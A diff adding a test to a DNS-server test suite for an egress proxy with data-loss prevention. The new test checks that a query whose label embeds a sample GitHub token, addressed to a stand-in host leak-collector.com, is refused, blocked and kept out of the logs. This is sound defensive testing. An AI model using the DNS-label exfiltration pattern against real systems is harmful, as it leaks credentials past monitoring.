@@ -8,6 +8,7 @@ import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { startFakeDns, type FakeDns } from "../helpers/fake-dns.ts";
 import { curlThrough, startEchoOrigin, stopSluices, type EchoOrigin } from "../helpers/origins.ts";
 import { startSluice, type Running } from "../helpers/sluice.ts";
+import { sampleSecret } from "../helpers/dlp-samples.ts";
 
 const T = 60_000;
 
@@ -215,6 +216,18 @@ describe("DNS server", () => {
     expect(String(rec.detail)).not.toContain(secret.slice(0, 60));
     expect(rec.host).toBe("<2 labels redacted>.exfil-collector.com");
     expect(JSON.stringify(sl.lines)).not.toContain(secret.slice(0, 20));
+  }, T);
+
+  test("DLP reads query names too: a token in a label is refused under its own rule, never asked upstream", async () => {
+    const token = sampleSecret("dlp.github-token");
+    const name = `${token}.leak-collector.com`;
+    const r = await dig(dnsPort(sl), name, "A");
+    expect(r.status, r.raw).toBe("NXDOMAIN");
+    expect(r.ede ?? r.raw).toContain("dlp.github-token");
+    expect(fake.queries().some((q) => q.name.includes("leak-collector.com"))).toBe(false);
+    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.rule === "dlp.github-token");
+    expect(rec.verdict).toBe("block");
+    expect(JSON.stringify(sl.lines)).not.toContain(token);
   }, T);
 
   test("queries sluice will not serve get FORMERR, NOTIMP or REFUSED and never go upstream", async () => {
